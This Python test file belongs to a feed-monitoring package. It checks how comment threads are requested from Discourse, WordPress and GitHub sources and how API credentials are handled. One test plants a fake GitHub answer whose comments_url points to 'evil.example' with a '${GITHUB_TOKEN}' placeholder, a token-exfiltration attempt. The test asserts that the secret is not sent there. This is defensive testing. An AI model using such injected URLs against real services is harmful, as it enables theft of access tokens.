from __future__ import annotations

import json

from tests.sources.conftest import NOW

from brandwatch.feeds import parse_document
from brandwatch.models import Document, Entry, Source
from brandwatch.sources.registry import Registry
from brandwatch.sources.request import build_request, thread_source
from brandwatch.sources.response import read_answer

REGISTRY = Registry()


def test_comments_in_json_are_read_with_the_same_kind():
    """The thread of a forum entry is requested from the forum, with its values, and parsed by its kind."""
    source = Source(
        url="https://forum.example/search.json?q=x",
        kind="discourse",
        headers=(("Api-Key", "${DISCOURSE_API_KEY}"),),
        values=(("site", "https://forum.example"),),
    )
    below = thread_source(REGISTRY.kind("discourse"), source, Entry(comment_feed="https://forum.example/t/51.json"))
    assert below == Source(
        url="https://forum.example/t/51.json", kind="discourse", headers=source.headers, values=source.values
    )
    asked = build_request(REGISTRY.kind("discourse"), below, {"DISCOURSE_API_KEY": "k"}, NOW)
    assert (asked.url, asked.headers) == ("https://forum.example/t/51.json", (("Api-Key", "k"),))


def test_comments_of_a_feed_are_a_feed_of_comments():
    """The comment feed of a WordPress entry is parsed by the comment feed kind, whatever its source."""
    source = Source(url="https://b.example/?s=x&feed=rss2", kind="wordpress", allow_private=True)
    entry = Entry(comment_feed="https://b.example/post/feed/")
    below = thread_source(REGISTRY.kind("wordpress"), source, entry)
    assert below == Source(url="https://b.example/post/feed/", kind="comments", allow_private=True)
    assert thread_source(REGISTRY.kind("wordpress"), source, Entry()) is None


def test_an_answer_cannot_redirect_secrets():
    """Headers go to the host of the source only, and `${NAME}` in an answer is text."""
    kind = REGISTRY.kind("github")
    issue = {
        "html_url": "https://github.com/a/b/issues/1",
        "created_at": "2026-05-05T10:00:00Z",
        "title": "Å",
        "comments_url": "https://evil.example/?take=${GITHUB_TOKEN}",
    }
    body = json.dumps({"items": [issue]}).encode()
    (entry,) = read_answer(
        kind, Document(url="https://api.github.com/", status=200, body=body), {}, parse_document
    ).entries
    source = Source(
        url="https://api.github.com/search", kind="github", headers=(("Authorization", "Bearer ${GITHUB_TOKEN}"),)
    )
    below = thread_source(kind, source, entry)
    assert below is not None
    asked = build_request(kind, below, {"GITHUB_TOKEN": "s3cret"}, NOW)
    assert asked.headers == ()
    assert "s3cret" not in asked.url
